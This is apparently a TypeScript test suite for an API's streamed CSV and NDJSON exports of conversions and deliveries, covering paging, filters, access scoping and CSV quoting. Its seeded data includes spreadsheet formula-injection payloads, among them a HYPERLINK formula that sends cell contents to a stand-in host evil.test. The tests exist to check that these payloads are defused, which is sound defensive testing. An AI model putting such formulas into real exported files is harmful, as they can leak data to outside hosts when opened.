/**
 * Exports of conversions and deliveries (docs/reports.md#exports): every matching row, streamed page
 * by page as CSV or NDJSON, equal to the JSON list paged through, with its filters and its access rules.
 */
import { describe, expect, it, onTestFinished, vi } from "vitest";
import { exportPageRows } from "../src/reports/export-file";
import { createApiKey, withKey } from "./support/access";
import {
  csvCellsOf,
  parseCsv,
  parseNdjson,
  readChunks,
  seedConversions,
  seedDeliveries,
  textOf,
  updateConversion,
} from "./support/exports";
import { admin, createNetwork, createPartner, expectStatus, PARTNER, uniqueId } from "./support/helpers";
import { expectProblem } from "./support/problems";

type Item = Record<string, unknown>;

async function pagedJson(path: string, fetcher = admin): Promise<Item[]> {
  const items: Item[] = [];
  let cursor: string | null = null;
  do {
    const suffix: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : "";
    const page: { data: Item[]; next_cursor: string | null } = await expectStatus(
      await fetcher(`${path}&limit=200${suffix}`),
      200,
    );
    items.push(...page.data);
    cursor = page.next_cursor;
  } while (cursor);
  return items;
}

/** The pages an export of `rows` rows reads, by the route's own page sizes. */
function pagesFor(rows: number): number {
  let pages = 0;
  let left = rows;
  for (;;) {
    const size = exportPageRows(pages);
    pages += 1;
    if (left < size) return pages;
    left -= size;
  }
}

const RFC3339_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?Z$/;

describe("exports of conversions", () => {
  const seeding = (async () => {
    const network = await createNetwork();
    const other = await createNetwork();
    const seeded = await seedConversions(network.id, 2600, Date.parse("2026-03-01T00:00:00Z"), (index) =>
      index === 7 ? { transaction_id: `=HYPERLINK("https://evil.test/?"&A1,"click"), "quoted"` } : {},
    );
    await seedConversions(other.id, 30, Date.parse("2026-03-01T00:00:00Z"));
    const tricky = seeded[11]?.transaction_id ?? "";
    await updateConversion(network.id, tricky, {
      meta: JSON.stringify({ note: 'a, "quoted"\nnew line', sum: "+1+2", n: 3 }),
      amount: "1234567890.123456789",
      user_id: "'already quoted",
      device_id: "@SUM(1)",
    });
    const attributed = seeded[12]?.transaction_id ?? "";
    await updateConversion(network.id, attributed, {
      attribution: "direct",
      attribution_detail: "the network named the partner",
      attributed_partner_id: "prt-x",
      payout: "4.10",
      payout_currency: "EUR",
      revenue: "9.90",
      revenue_currency: "EUR",
    });
    return { network, other, seeded, tricky, attributed };
  })();

  it("streams every row in CSV, reading D1 page by page as the client reads, equal to the JSON list paged through", async () => {
    const { network, seeded } = await seeding;
    const logged = vi.spyOn(console, "log").mockImplementation(() => undefined);
    onTestFinished(() => logged.mockRestore());
    const json = await pagedJson(`/v1/conversions?network_id=${network.id}`);
    expect(json).toHaveLength(2600);

    const response = await admin(`/v1/conversions?network_id=${network.id}&format=csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="conversions-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("vary")).toBe("Accept");
    // The runtime hands the body over in pieces of its own size, so pieces prove nothing; what does:
    // a row of the last page, changed after the first piece was read, is exported as changed (that
    // page was read from D1 only then), and the export logs how many D1 pages it read.
    const reader = response.body?.getReader();
    const first = await reader?.read();
    expect(first?.done).toBe(false);
    const oldest = seeded[0]?.transaction_id ?? "";
    await updateConversion(network.id, oldest, { campaign_id: "changed-while-streaming" });
    const chunks: Uint8Array[] = first?.value ? [first.value] : [];
    for (;;) {
      const next = await reader?.read();
      if (!next || next.done) break;
      chunks.push(next.value);
    }
    const text = textOf(chunks);
    const finished = logged.mock.calls.map(([line]) => JSON.parse(String(line)) as Record<string, unknown>);
    expect(finished.filter((line) => line.message === "export finished" && line.format === "csv")).toEqual([
      expect.objectContaining({
        export: "conversions",
        rows: 2600,
        pages: pagesFor(2600),
        request_id: response.headers.get("x-request-id"),
      }),
    ]);
    expect(pagesFor(2600)).toBeGreaterThanOrEqual(3);
    const changed = json.find((item) => item.transaction_id === oldest);
    expect(changed?.campaign_id).toBe("camp-0");
    if (changed) changed.campaign_id = "changed-while-streaming";
    const { header, rows } = parseCsv(text);
    expect(header).toEqual(Object.keys(csvCellsOf(json[0] ?? {})));
    expect(rows).toEqual(json.map(csvCellsOf));
  });

  it("streams every row in NDJSON (by Accept), each line an item of the JSON list", async () => {
    const { network } = await seeding;
    const json = await pagedJson(`/v1/conversions?network_id=${network.id}`);
    const response = await admin(`/v1/conversions?network_id=${network.id}`, {
      headers: { accept: "application/x-ndjson" },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/x-ndjson");
    expect(response.headers.get("content-disposition")).toMatch(/filename="conversions-\d{8}T\d{6}Z\.ndjson"$/);
    expect(parseNdjson(textOf(await readChunks(response)))).toEqual(json);
  });

  it("applies the list's filters, and starts after a JSON page's cursor", async () => {
    const { network, seeded } = await seeding;
    const filter = `network_id=${network.id}&status=approved&campaign_id=camp-1&until=2026-03-01T00:30:00Z`;
    const json = await pagedJson(`/v1/conversions?${filter}`);
    const expected = seeded.filter(
      (c) => c.status === "approved" && c.campaign_id === "camp-1" && c.first_seen_at < "2026-03-01T00:30:00.000Z",
    );
    expect(json.map((item) => item.transaction_id).sort()).toEqual(expected.map((c) => c.transaction_id).sort());
    expect(json.length).toBeGreaterThan(0);
    const csv = parseCsv(await (await admin(`/v1/conversions?${filter}&format=csv`)).text());
    expect(csv.rows).toEqual(json.map(csvCellsOf));

    const first: { next_cursor: string } = await expectStatus(
      await admin(`/v1/conversions?network_id=${network.id}&limit=100`),
      200,
    );
    const rest = parseNdjson(
      await (
        await admin(
          `/v1/conversions?network_id=${network.id}&format=ndjson&cursor=${encodeURIComponent(first.next_cursor)}`,
        )
      ).text(),
    );
    const all = await pagedJson(`/v1/conversions?network_id=${network.id}`);
    expect(rest).toEqual(all.slice(100));
  });

  it("quotes commas, quotes and line breaks, keeps money exact and times RFC 3339 UTC, and defuses formulas", async () => {
    const { network, tricky, seeded } = await seeding;
    const response = await admin(`/v1/conversions?network_id=${network.id}&format=csv`);
    const text = await response.text();
    const { rows } = parseCsv(text);
    const row = rows.find((r) => r.transaction_id === tricky);
    expect(row?.meta).toBe('{"note":"a, \\"quoted\\"\\nnew line","sum":"+1+2","n":3}');
    expect(row?.amount).toBe("1234567890.123456789");
    expect(row?.user_id).toBe("'already quoted");
    expect(row?.device_id).toBe("@SUM(1)");
    for (const r of rows) {
      expect(r.first_seen_at).toMatch(RFC3339_UTC);
      expect(r.updated_at).toMatch(RFC3339_UTC);
      expect(r.event_time).toMatch(RFC3339_UTC);
      expect(r.amount).toMatch(/^\d+\.\d+$/);
    }
    // As written: the cells a spreadsheet would run start with an apostrophe, and the CSV quoting is RFC 4180's.
    const formula = seeded[7]?.transaction_id ?? "";
    expect(text).toContain(`,"'=HYPERLINK(""https://evil.test/?""&A1,""click""), ""quoted""",`);
    expect(text).toContain(",'@SUM(1),");
    expect(text).toContain(",''already quoted,");
    expect(rows.find((r) => r.transaction_id === formula)).toBeDefined();
    expect(text.split("\r\n").length).toBeGreaterThan(2600);
  });

  it("gives a network key its own network's conversions without the payout; others' are refused", async () => {
    const { network, other, attributed } = await seeding;
    const key = await createApiKey({ scope: "network", subject_id: network.id });
    const own = (path: string, init?: RequestInit) => withKey(key.key, path, init);

    const operatorRows = parseCsv(
      await (await admin(`/v1/conversions?network_id=${network.id}&format=csv`)).text(),
    ).rows;
    expect(operatorRows.find((r) => r.transaction_id === attributed)).toMatchObject({
      attributed_partner_id: "prt-x",
      payout: "4.10",
      payout_currency: "EUR",
      revenue: "9.90",
    });

    const csv = parseCsv(await (await own(`/v1/conversions?network_id=${network.id}&format=csv`)).text());
    expect(csv.rows).toHaveLength(2600);
    const mine = csv.rows.find((r) => r.transaction_id === attributed);
    expect(mine).toMatchObject({ attributed_partner_id: "prt-x", payout: "", payout_currency: "", revenue: "9.90" });
    expect(csv.rows.every((r) => r.payout === "" && r.payout_currency === "")).toBe(true);
    const ndjson = parseNdjson(
      await (
        await own(`/v1/conversions?network_id=${network.id}`, { headers: { accept: "application/x-ndjson" } })
      ).text(),
    ) as Item[];
    expect(ndjson).toEqual(await pagedJson(`/v1/conversions?network_id=${network.id}`, own));
    const payouts = ndjson.map((item) => (item.attribution as { payout: unknown } | null)?.payout ?? null);
    expect(payouts.filter((payout) => payout !== null)).toEqual([]);

    await expectProblem(await own(`/v1/conversions?network_id=${other.id}&format=csv`), 403, "forbidden");
    await expectProblem(await own("/v1/conversions?format=csv"), 403, "forbidden");
  });

  it("refuses limit in an export and an unknown format, naming the parameter, before anything streams", async () => {
    const { network } = await seeding;
    const limited = await expectProblem(
      await admin(`/v1/conversions?network_id=${network.id}&format=csv&limit=10`),
      400,
      "invalid_request",
    );
    expect(limited.errors.map((e) => e.location)).toEqual(["query.limit"]);
    const accepted = await expectProblem(
      await admin(`/v1/conversions?network_id=${network.id}&limit=10`, { headers: { accept: "text/csv" } }),
      400,
      "invalid_request",
    );
    expect(accepted.errors.map((e) => e.location)).toEqual(["query.limit"]);
    const forged = await expectProblem(
      await admin(`/v1/conversions?network_id=${network.id}&format=csv&cursor=bm90LWEtY3Vyc29y`),
      400,
      "invalid_request",
    );
    expect(forged.errors.map((e) => e.location)).toEqual(["query.cursor"]);
    const unknown = await expectProblem(await admin(`/v1/conversions?format=xlsx`), 422, "validation_failed");
    expect(unknown.errors.map((e) => e.location)).toEqual(["query.format"]);
    // format=json wins over Accept: the paged list, as before, which varies by Accept too.
    const response = await admin(`/v1/conversions?network_id=${network.id}&format=json&limit=5`, {
      headers: { accept: "text/csv" },
    });
    expect(response.headers.get("vary")).toBe("Accept");
    const page: { data: Item[] } = await expectStatus(response, 200);
    expect(page.data).toHaveLength(5);
  });

  it("writes the header alone when nothing matches", async () => {
    const response = await admin(`/v1/conversions?network_id=${uniqueId("none")}&format=csv`);
    const { header, rows } = parseCsv(await response.text());
    expect(header[0]).toBe("network_id");
    expect(rows).toEqual([]);
    const empty = await admin(`/v1/conversions?network_id=${uniqueId("none")}&format=ndjson`);
    expect(await empty.text()).toBe("");
  });
});

describe("exports of deliveries", () => {
  it("streams a partner's deliveries to its key, equal to the JSON list; another partner's are refused", async () => {
    const partner = await createPartner({ url_template: `${PARTNER}/ok/${uniqueId("exp")}?tx={transaction_id}` });
    const stranger = await createPartner({ url_template: `${PARTNER}/ok/${uniqueId("exp")}?tx={transaction_id}` });
    await seedDeliveries(partner.id, 900, Date.parse("2026-04-01T00:00:00Z"));
    await seedDeliveries(stranger.id, 20, Date.parse("2026-04-01T00:00:00Z"));
    const key = await createApiKey({ scope: "partner", subject_id: partner.id });
    const own = (path: string, init?: RequestInit) => withKey(key.key, path, init);

    const json = await pagedJson(`/v1/deliveries?partner_id=${partner.id}`, own);
    expect(json).toHaveLength(900);
    const response = await own(`/v1/deliveries?partner_id=${partner.id}`, { headers: { accept: "text/csv" } });
    expect(response.headers.get("content-disposition")).toMatch(/filename="deliveries-\d{8}T\d{6}Z\.csv"$/);
    const text = textOf(await readChunks(response));
    expect(parseCsv(text).rows).toEqual(json.map(csvCellsOf));
    expect(text).toContain(`"'=HYPERLINK(""https://evil.test"",""ok""), line\nbreak"`);

    const ndjson = parseNdjson(await (await own(`/v1/deliveries?partner_id=${partner.id}&format=ndjson`)).text());
    expect(ndjson).toEqual(json);
    const failed = parseCsv(
      await (await own(`/v1/deliveries?partner_id=${partner.id}&state=failed&format=csv`)).text(),
    );
    expect(failed.rows.length).toBe(225);
    expect(failed.rows.every((r) => r.state === "failed" && r.partner_id === partner.id)).toBe(true);

    await expectProblem(await own(`/v1/deliveries?partner_id=${stranger.id}&format=csv`), 403, "forbidden");
    await expectProblem(await own("/v1/deliveries?format=ndjson"), 403, "forbidden");
  });
});
